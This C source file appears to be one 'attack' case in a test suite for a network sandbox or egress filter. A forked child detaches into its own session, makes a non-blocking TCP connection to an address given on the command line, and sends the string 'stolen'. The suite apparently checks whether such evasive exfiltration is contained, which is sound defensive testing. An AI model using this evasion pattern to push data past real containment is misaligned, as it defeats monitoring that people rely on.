/* SPDX-License-Identifier: Apache-2.0 */
/* A non-blocking connect from a forked child in an own session. */
#define ATTACK "connect-nonblocking"
#include "attack.h"
#include "network.h"
#include <poll.h>

int main(int count, char **argument)
{
	struct sockaddr_in address = address4(argument[count - 1]);
	pid_t child = prepare("fork", fork());

	if (child == 0) {
		struct pollfd ready;
		int fd = prepare("socket", socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0));

		setsid();
		if (connect(fd, (void *)&address, sizeof(address)) < 0 && errno != EINPROGRESS)
			intended("connect", -1);
		ready = (struct pollfd){ .fd = fd, .events = POLLOUT };
		prepare("poll", poll(&ready, 1, 5000));
		fcntl(fd, F_SETFL, 0);
		prepare("send", send(fd, "stolen\n", 7, 0));
		expect_answer("connect", fd);
	}
	exit_as(child);
}
